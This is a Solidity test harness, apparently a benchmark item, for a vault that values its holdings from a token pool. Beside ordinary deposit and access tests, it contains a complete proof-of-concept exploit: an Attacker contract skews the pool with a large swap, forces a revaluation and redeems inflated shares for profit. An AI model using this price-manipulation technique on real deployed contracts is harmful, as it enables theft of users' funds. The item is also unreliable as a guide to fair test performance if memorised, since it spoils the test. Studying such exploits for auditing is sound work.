// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./ManagedEstate.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-62cf1132-0f98-4298-8da6-8db115c103b6

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 20_000_000e6);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant MANAGER = address(0x3A4);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    uint256 internal constant START = 1_768_000_000;

    Dollar internal usd;
    Dollar internal alt;
    PairPool internal pool;
    ManagedEstate internal estate;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(START);
        usd = new Dollar();
        alt = new Dollar();
        pool = new PairPool(usd, alt);
        estate = new ManagedEstate(pool, MANAGER);
        usd.approve(address(pool), type(uint256).max);
        alt.approve(address(pool), type(uint256).max);
        pool.add(500_000e6, 500_000e6);
        usd.transfer(ANA, 5_000_000e6);
        alt.transfer(MANAGER, 2_000_000e6);
        vm.startPrank(MANAGER);
        usd.approve(address(estate), type(uint256).max);
        alt.approve(address(estate), type(uint256).max);
        vm.stopPrank();
        vm.startPrank(ANA);
        usd.approve(address(estate), type(uint256).max);
        estate.deposit(4_000_000e6, 4_000_000e6);
        vm.stopPrank();
        vm.prank(MANAGER);
        estate.invest(500_000e6);
        estate.account();
        vm.warp(START + 1 days);
        mallory = new Attacker(estate, pool);
        usd.transfer(address(mallory), 10_000_000e6);
    }

    function test_Regular() public {
        require(estate.positionWorth() == 1_000_000e6 && estate.idle() == 3_000_000e6, "position");
        require(estate.accountedWorth() == 4_000_000e6, "accounted");
        usd.transfer(BEN, 90_000e6);
        vm.startPrank(BEN);
        usd.approve(address(estate), type(uint256).max);
        uint256 shares = estate.deposit(90_000e6, 90_000e6);
        require(shares == 90_000e6 && estate.redeemable(BEN) == 90_000e6, "shares");
        vm.stopPrank();
        vm.prank(MANAGER);
        estate.divest(100_000e6);
        require(estate.account() == 4_090_000e6, "accounted");
        vm.prank(BEN);
        require(estate.redeem(shares) == 90_000e6 && estate.sharesOf(BEN) == 0, "redeemed");
        vm.prank(ANA);
        require(estate.redeem(1_000_000e6) == 1_000_000e6, "a quarter");
        vm.warp(START + 2 days);
        require(estate.account() == 3_000_000e6 && estate.accountedAt() == START + 2 days, "again");
    }

    function test_RefusesOtherCallers() public {
        usd.approve(address(estate), type(uint256).max);
        alt.approve(address(estate), type(uint256).max);
        vm.expectRevert(abi.encodeWithSelector(ManagedEstate.NotManager.selector, address(this)));
        estate.invest(1);
        vm.expectRevert(abi.encodeWithSelector(ManagedEstate.NotManager.selector, address(this)));
        estate.divest(1);
    }

    function test_RefusesTooEarlyAndTooLittle() public {
        estate.account();
        vm.warp(START + 1 days + 10 minutes - 1);
        vm.expectRevert(abi.encodeWithSelector(ManagedEstate.TooSoon.selector, START + 1 days + 10 minutes));
        estate.account();
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(ShareBook.TooFewShares.selector, 0));
        estate.deposit(0, 0);
        vm.expectRevert(abi.encodeWithSelector(ShareBook.TooFewShares.selector, 1e6));
        estate.deposit(1e6, 1e6 + 1);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(mallory));
        exploit();
        require(usd.balanceOf(address(mallory)) >= before + 400_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(estate);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Buys shares, fills one side of the exchange, has the estate accounted, and gives the shares back.
contract Attacker {
    ManagedEstate internal estate;
    PairPool internal pool;

    constructor(ManagedEstate estate_, PairPool pool_) {
        estate = estate_;
        pool = pool_;
    }

    function run() external {
        IERC20 usd = pool.tokens(0);
        usd.approve(address(estate), type(uint256).max);
        usd.approve(address(pool), type(uint256).max);
        pool.tokens(1).approve(address(pool), type(uint256).max);
        uint256 shares = estate.deposit(2_000_000e6, 0);
        uint256 other = pool.swap(0, 4_000_000e6);
        estate.account();
        estate.redeem(shares);
        pool.swap(1, other);
    }
}
